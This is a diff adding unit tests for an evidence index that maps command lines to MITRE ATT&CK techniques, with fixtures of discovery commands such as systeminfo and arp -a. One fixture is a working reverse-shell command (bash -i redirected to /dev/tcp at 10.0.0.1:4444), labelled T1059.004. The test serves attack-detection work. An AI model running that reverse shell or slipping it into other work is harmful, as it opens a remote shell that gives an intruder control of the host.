@@ -51,4 +51,36 @@ describe('evidence index', () => {
     )[0]!;
     expect(diluted.score).toBeLessThan(close.score);
   });
+
+  describe('a program run on its own', () => {
+    // Written from ATT&CK's descriptions of discovery commands, not from any recording.
+    const known = buildEvidenceIndex([
+      example('systeminfo', 'T1082', 'h'),
+      example('systeminfo | findstr /B /C:"OS Name"', 'T1082', 'i'),
+      example('hostname', 'T1082', 'j'),
+      example('arp -a', 'T1016', 'k'),
+      example('The malware ran systeminfo to collect the OS version and patches.', 'T1082', 'l'),
+      example('One test prints systeminfo output after disabling history.', 'T1070.003', 'm'),
+      example('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'T1059.004', 'n'),
+      example('sudo bash -c "echo ok"', 'T1548.003', 'o'),
+      ...examples,
+    ]);
+
+    it('is named by what the knowledge says the program is for, when an attack command runs it on its own', () => {
+      const [best, other] = known.candidates('systeminfo');
+      expect(best?.technique).toBe('T1082');
+      expect(best?.nearest.text).toBe('systeminfo');
+      expect(best?.sharedTerms).toEqual(['systeminfo']);
+      expect(other === undefined || other.score < best!.score).toBe(true);
+      expect(known.candidates('arp -a')[0]?.technique).toBe('T1016');
+      expect(known.candidates('hostname')[0]?.technique).toBe('T1082');
+    });
+
+    it('says nothing for a program no attack command runs on its own, or one never named', () => {
+      // A login shell is everyday; only `bash -i` to a socket and `sudo bash -c` are known.
+      expect(known.candidates('bash')).toEqual([]);
+      expect(known.candidates('winword.exe')).toEqual([]);
+      expect(known.candidates('zzzz')).toEqual([]);
+    });
+  });
 });
